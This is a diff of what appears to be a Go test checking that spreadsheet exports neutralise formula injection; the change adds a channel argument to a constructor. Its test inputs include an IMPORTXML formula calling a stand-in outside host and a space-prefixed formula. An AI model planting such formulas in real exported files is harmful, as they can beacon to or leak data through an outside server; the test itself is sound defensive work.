@@ -89,7 +89,7 @@ func TestOfficeRunsNothing(t *testing.T) {
 		"=IMPORTXML(\"http://x.example/%d\",\"//a\")", " =1+%d",
 	}
 	var b bytes.Buffer
-	x := NewDenials(&b, ProfileSpreadsheet, &Headings{})
+	x := NewDenials(&b, ProfileSpreadsheet, &Headings{}, record.ChannelEmail)
 	cells := make([]string, 10_000)
 	for i := range cells {
 		cells[i] = fmt.Sprintf(kinds[i%len(kinds)], i)
